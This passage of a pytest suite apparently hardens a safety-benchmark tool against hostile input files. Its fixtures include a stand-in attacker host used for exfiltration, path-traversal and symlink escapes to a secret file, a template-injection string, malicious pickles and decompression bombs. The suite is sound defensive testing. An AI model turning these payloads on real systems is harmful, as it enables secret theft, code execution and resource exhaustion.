    return ["judge", str(folder / "run"), "--judge", f"llm/{folder / 'r.md'}/replay/{folder / 'run/responses.jsonl'}"]


@row("rubric", "escape: nobody's home")
def _(folder: Path) -> list[str]:
    return ["judge", str(folder / "run"), "--judge", f"llm/~nobody.here/r.md/replay/{folder / 'run/responses.jsonl'}"]


@row("rubric", "send")
def _(folder: Path) -> list[str]:
    labels = "{a: refused, b: answered}"
    more = f"model: openai/m\nbase_url: {EVIL}\nkey: PLANTED_SECRET"
    return rubric(folder, f"name: x\nversion: 1\nsource: {EVIL}\nlabels: {labels}\n{more}")


@row("rubric", "code: template")
def _(folder: Path) -> list[str]:
    command = rubric(folder, "name: x\nversion: 1\nsource: x\nlabels: {a: refused, b: answered}")
    with (folder / "r.md").open("a") as file:
        file.write(
            "{{ ''.__class__.__mro__ }} {% for i in range(9**9) %}x{% endfor %} {0.__class__} ${PLANTED_SECRET}\n"
        )
    return command


@row("rubric", "bomb: without end")
def _(folder: Path) -> list[str]:
    command = rubric(folder, "name: x")
    with (folder / "r.md").open("r+b") as file:
        file.truncate(2**36)
    return command


@row("wording", "escape")
def _(folder: Path) -> list[str]:
    os.mkfifo(folder / "w.txt")
    answers = f"replay/{folder / 'run' / 'responses.jsonl'}"
    calibrate, out = f"reminder,wording={folder / 'w.txt'}", str(folder / "out")
    return ["run", "pictosafe", "--target", answers, "--calibrate", calibrate, "--judge", "string-match", "--out", out]


def bench(folder: Path, change: Callable[[dict[str, Any]], None]) -> list[str]:
    root = folder / "bench"
    (root / "images").mkdir(parents=True)
    record = {
        "id": 1, "type": "SSU", "category": "safe", "subcategory": "safe", "image": "a.png", "query": "q",
        "image_safe": True, "image_safety_label": "safe",
    }  # fmt: skip
    change(record)
    (root / "holisafe_bench.json").write_text(json.dumps([record]))
    return ["data", "check", "holisafe-bench", "--root", str(root)]


@row("benchmark", "escape")
def _(folder: Path) -> list[str]:
    return bench(folder, lambda record: record.update(image=f"../../../{SECRET_FILE}"))


@row("benchmark", "escape: link")
def _(folder: Path) -> list[str]:
    command = bench(folder, lambda record: record.update(image="a.png"))
    (folder / "bench" / "images" / "a.png").symlink_to(folder.parent / SECRET_FILE)
    return command


@row("benchmark", "send")
def _(folder: Path) -> list[str]:
    return bench(folder, lambda record: record.update(image=f"{EVIL}/a.png"))


@row("benchmark", "drive")
def _(folder: Path) -> list[str]:
    return bench(folder, lambda record: record.update(dict.fromkeys([*record, DRIVE], DRIVE)))


@row("benchmark", "code")
def _(folder: Path) -> list[str]:
    """What the hub's library of data sets would have run."""
    command = bench(folder, lambda record: None)
    for name in ("bench.py", "holisafe_bench.py", "conftest.py", "sitecustomize.py", "__init__.py"):
        (folder / "bench" / name).write_text("raise SystemExit('code of the stranger ran')\n")
    return command


@row("benchmark", "escape: pipe")
def _(folder: Path) -> list[str]:
    command = bench(folder, lambda record: record.update(image="a.png"))
    os.mkfifo(folder / "bench" / "images" / "a.png")
    return command


@row("benchmark", "escape: pipe for the table")
def _(folder: Path) -> list[str]:
    command = bench(folder, lambda record: None)
    (folder / "bench" / "holisafe_bench.json").unlink()
    os.mkfifo(folder / "bench" / "holisafe_bench.json")
    return command


@row("benchmark", "bomb")
def _(folder: Path) -> list[str]:
    command = bench(folder, lambda record: None)
    (folder / "bench" / "holisafe_bench.json").write_text(DEEP)
    return command


# What is scanned, and a scan's folder.


def scanned(folder: Path, source: str = "", **members: bytes) -> list[str]:
    """A scan of pictures and of a shard with such members (two underscores stand for a dot), by a guard that has no
    answers."""
    (folder / "pictures").mkdir(exist_ok=True)
    Image.new("RGB", (8, 8)).save(folder / "pictures" / "good.png")
    (folder / "answers.csv").write_text("id,response\na,safe\n")
    with tarfile.open(folder / "pictures" / "shard.tar", "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name.replace("__", "."))
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    guard = f"llama-guard/replay/{folder / 'answers.csv'}"
    return ["scan", source or str(folder / "pictures"), "--guard", guard, "--out", str(folder / "scan")]


@row("scan", "code")
def _(folder: Path) -> list[str]:
    return scanned(folder, a__png=pickle.dumps(Evil()), a__pkl=pickle.dumps(Evil()), a__json=b'{"caption": "x"}')


@row("scan", "send")
def _(folder: Path) -> list[str]:
    (folder / "pairs.csv").write_text(f"image,text\n{EVIL}/a.png,x\ns3://evil/a.png,y\n//203.0.113.7/a.png,z\n")
    return scanned(folder, str(folder / "pairs.csv"))


@row("scan", "escape")
def _(folder: Path) -> list[str]:
    (folder / "pairs.csv").write_text(f"image,text\n../{SECRET_FILE},x\n{folder.parent / SECRET_FILE},y\n")
    return scanned(folder, str(folder / "pairs.csv"))


@row("scan", "escape: links")
def _(folder: Path) -> list[str]:
    command = scanned(folder)
    (folder / "pictures" / "a.png").symlink_to(folder.parent / SECRET_FILE)
    (folder / "pictures" / "b.tar").symlink_to(folder.parent / SECRET_FILE)
    (folder / "pictures" / "c").symlink_to(folder.parent)
    with tarfile.open(folder / "pictures" / "links.tar", "w") as tar:
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
            link = tarfile.TarInfo(f"{kind.hex()}.png")
            link.type, link.linkname = kind, str(folder.parent / SECRET_FILE)
            tar.addfile(link)
    return command


@row("scan", "escape: link to write through")
def _(folder: Path) -> list[str]:
    (folder / "scan" / "parts").mkdir(parents=True)
    for name in ("index.html", "summary.json", "parts/.part-000001.jsonl", "parts/part-000001.parquet"):
        (folder / "scan" / name).symlink_to(folder.parent / SECRET_FILE)
    return scanned(folder)


@row("scan", "bomb")
def _(folder: Path) -> list[str]:
    command = scanned(folder, a__json=DEEP.encode(), a__txt=b"x" * (2 << 20))
    with gzip.open(folder / "pictures" / "zeros.tar.gz", "wb", compresslevel=1) as file:
        info = tarfile.TarInfo("huge.png")
        info.size = 1 << 40
        file.write(info.tobuf())
        for _ in range(64):
            file.write(bytes(4 << 20))
    return command


@row("scan", "bomb: its own folder")
def _(folder: Path) -> list[str]:
    command = scanned(folder)
    (folder / "scan" / "parts").mkdir(parents=True)
    (folder / "scan" / "scan.json").write_text(DEEP)
    return command


@row("scan", "drive")
def _(folder: Path) -> list[str]:
    (folder / "pairs.jsonl").write_text(json.dumps({"id": DRIVE, "image": DRIVE, "text": DRIVE}) + "\n")
    return scanned(folder, str(folder / "pairs.jsonl"))


@row("scan", "drive: names")
def _(folder: Path) -> list[str]:
    name = DRIVE.replace("/", "|")
    command = scanned(folder, **{f"{name}__png": b"no picture"})
    Image.new("RGB", (8, 8)).save(folder / "pictures" / f"{name}.png")
    return command


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run of three pairs."""
    folder = tmp_path_factory.mktemp("good")
    benchmark = open_benchmark("pictosafe", split="test")
    (folder / "answers.csv").write_text("id,response\n" + "".join(f"{s.id},Sorry.\n" for s in benchmark.samples))
    target = open_target(f"replay/{folder / 'answers.csv'}", GenerationSettings())
    evaluate(benchmark, target, [open_judge("string-match")], folder / "run", limit=3)
    return folder / "run"


@pytest.fixture(scope="module")
def warden(tmp_path_factory: pytest.TempPathFactory) -> Iterator[subprocess.Popen[str]]:
    """The process that carries out command lines, its secrets and its empty hub beside it."""
    environment = {
        **os.environ, "PLANTED_SECRET": SECRET, "OPENAI_API_KEY": SECRET, "HF_TOKEN": SECRET, "OMP_NUM_THREADS": "1",
        "HF_HOME": str(tmp_path_factory.mktemp("hub")), "PYTHONHASHSEED": "0",
    }  # fmt: skip
    pipes: dict[str, Any] = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "text": True}
    with subprocess.Popen([sys.executable, str(TESTS / "warden.py")], env=environment, **pipes) as process:
        yield process
        process.stdin.close()


class Done(NamedTuple):
    """What a command did: `forbidden` is the warden's report."""

    arguments: list[str]
    code: int
    mebibytes: int
    seconds: int
    forbidden: str
    out: str
    err: str


def carried_out(warden: subprocess.Popen[str], arguments: list[str], tmp_path: Path) -> Done:
    files = {name: str(tmp_path / f"{name}.txt") for name in ("report", "out", "err")}
    order = {**files, "folder": str(tmp_path / "theirs"), "gib": 12, "arguments": arguments}
    print(json.dumps(order), file=warden.stdin, flush=True)
    used = json.loads(warden.stdout.readline())
    return Done(arguments, *used, *(Path(file).read_bytes().decode("utf-8") for file in files.values()))


def test_the_warden_sees(warden: subprocess.Popen[str], tmp_path: Path) -> None:
    """What a user types is done, and is what no file may do."""
    (tmp_path / "theirs").mkdir()
    (tmp_path / SECRET_FILE).write_text("query,expected\nq,answer\n")
    code, *rest = asked(hostile_model(tmp_path / "theirs"))
    for typed, seen in (
        ([code, *(f"{word},trust_remote_code=true" if word.startswith("hf/") else word for word in rest)], "code of"),
        (
            [
                "run",
                "pictosafe",
                "--target",
                f"openai/m,base_url={EVIL}",
                "--judge",
                "string-match",
                "--out",
                str(tmp_path / "o"),
            ],
            "socket",
        ),
        (["data", "check", "table", "--root", str(tmp_path / SECRET_FILE)], "the secret is opened"),
    ):
        assert seen in carried_out(warden, typed, tmp_path).forbidden


def test_every_surface_carries_five_payloads() -> None:
    kinds = {surface: {payload.partition(":")[0] for s, payload in ROWS if s == surface} for surface, _ in ROWS}
    several = ("run", "learned", "recipe", "sweep", "model", "log", "table", "rubric", "benchmark", "yaml", "scan")
    for surface in several:
        assert kinds[surface] >= {"code", "send", "escape", "bomb", "drive"}, surface


@pytest.mark.parametrize("name", ROWS, ids=" ".join)
def test_a_strangers_file_does_nothing_but_fail(
    name: tuple[str, str], good: Path, warden: subprocess.Popen[str], tmp_path: Path
) -> None:
    folder = tmp_path / "theirs"
    (tmp_path / SECRET_FILE).write_text(SECRET)
    shutil.copytree(good, folder / "run")
    found = carried_out(warden, ROWS[name](folder), tmp_path)
    code, out, err = found.code, found.out, found.err
    said = f"{found}"
    assert found.forbidden == "", said
    assert code in (0, 2, 3), said
    assert found.mebibytes < MOST_MEMORY, said
    assert found.seconds < MOST_SECONDS, said
    assert "Traceback" not in err, said
    assert SECRET not in said
    assert (tmp_path / SECRET_FILE).read_text() == SECRET
    for text in (out, err):
        odd = {c for c in text if (ord(c) < 32 and c not in "\n\t") or ord(c) == 127 or c in "\u202e\u2066"}
        assert not odd, said
    if code == 2:
        assert err.count("holisafe: ") >= 1 or out, said
    for file in folder.rglob("*"):
        if file.is_file() and not file.is_symlink() and file.stat().st_size < 2**30:
            content = file.read_bytes()
            assert SECRET.encode() not in content, file
            assert b"<script>alert(1)" not in content or file.suffix != ".html", file
